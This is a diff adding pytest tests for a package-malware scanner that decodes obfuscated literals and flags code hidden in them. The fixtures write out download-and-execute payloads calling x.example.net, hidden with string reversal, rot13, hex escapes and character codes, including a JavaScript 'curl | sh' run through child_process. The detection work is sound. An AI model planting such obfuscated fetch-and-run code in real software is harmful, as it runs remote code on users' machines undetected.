@@ -1,0 +1,98 @@
+"""Literals a file decodes as it runs are scanned decoded (``analysis/decoded.py``)."""
+
+from __future__ import annotations
+
+import codecs
+
+import pytest
+
+from tests.analysis.builders import npm_tarball, package, sdist
+from threatfeed.analysis import Engine
+from threatfeed.analysis.decoded import DECODERS, HIDDEN_CODE_RULE
+from threatfeed.analysis.package import SourceFile
+
+DOWNLOAD_EXEC = (
+    "import urllib.request;exec(urllib.request.urlopen('https://x.example.net/a').read())"
+)
+ROT13 = codecs.encode(DOWNLOAD_EXEC, "rot13")
+
+
+def _module(engine: Engine, code: str) -> SourceFile:
+    found = package(engine, sdist({"tidy_strings/module.py": code})).file("tidy_strings/module.py")
+    assert found is not None
+    return found
+
+
+def _rules(source: SourceFile) -> dict[str, str]:
+    return {hit.rule: hit.label for hit in source.signatures}
+
+
+def _escaped(text: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in text)
+
+
+@pytest.mark.parametrize(
+    ("code", "spelling"),
+    [
+        (
+            f'import builtins\ngetattr(builtins, "cexe"[::-1])("{DOWNLOAD_EXEC[::-1]}"[::-1])\n',
+            "a reversed string",
+        ),
+        (
+            f'import codecs\nexec(codecs.decode("{ROT13}", "rot13"))\n',
+            "rot13",
+        ),
+        (f'exec("{_escaped(DOWNLOAD_EXEC)}")\n', "escape sequences"),
+        (
+            f"exec(bytes([{', '.join(str(ord(c)) for c in DOWNLOAD_EXEC)}]).decode())\n",
+            "character codes",
+        ),
+    ],
+)
+def test_code_spelled_by_the_file_own_decoder_is_scanned_decoded(
+    engine: Engine, code: str, spelling: str
+) -> None:
+    rules = _rules(_module(engine, code))
+    assert rules["python_exec_of_download"].endswith(f"(hidden in {spelling})")
+    assert rules[HIDDEN_CODE_RULE] == f"code hidden in {spelling}"
+
+
+def test_a_hit_of_a_decoded_string_points_at_its_literal(engine: Engine) -> None:
+    code = f'import builtins\nx = 1\nrun = "{DOWNLOAD_EXEC[::-1]}"[::-1]\n'
+    source = _module(engine, code)
+    (hit,) = [h for h in source.signatures if h.rule == "python_exec_of_download"]
+    ((offset, length),) = hit.offsets
+    assert source.data[offset : offset + length] == f'"{DOWNLOAD_EXEC[::-1]}"'.encode()
+
+
+def test_javascript_module_names_in_escapes_and_char_codes_are_read(engine: Engine) -> None:
+    script = (
+        f'const m = require("{_escaped("child_process")}");\n'
+        "const cmd = String.fromCharCode("
+        + ", ".join(str(ord(c)) for c in "curl -s https://x.example.net/i | sh")
+        + ");\nm.exec(cmd);\n"
+    )
+    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
+    assert found is not None
+    assert HIDDEN_CODE_RULE in _rules(found)
+
+
+def test_ordinary_reversals_escapes_and_char_codes_reveal_nothing(engine: Engine) -> None:
+    code = (
+        "def is_palindrome(word):\n    return word == word[::-1]\n"
+        'SUFFIX = "gnp."[::-1]\n'
+        f'BANNER = "{_escaped("Hello, world")}"\n'
+        "MAGIC = bytes([137, 80, 78, 71, 13, 10, 26, 10])\n"
+        "NOTE = codecs.encode('a toy cipher', 'rot13')\n"
+    )
+    rules = _rules(_module(engine, code))
+    assert set(DECODERS) <= set(rules)  # marked, decoded, and nothing found
+    assert not {r for r in rules if r not in {*DECODERS, "string_decoder"}}
+
+
+def test_decoders_read_only_what_looks_like_text() -> None:
+    assert list(DECODERS["char_code_literal"](b"x = bytes([1, 2, 3, 200, 255])", 4)) == []
+    data = b"name = 'dl\\'row olleh'[::-1]"
+    (reversed_,) = DECODERS["reversed_literal"](data, data.index(b"'["))
+    assert (reversed_.offset, reversed_.encoding) == (7, "reversed")
+    assert reversed_.text == "hello wor'ld"  # the escaped quote read as the language reads it
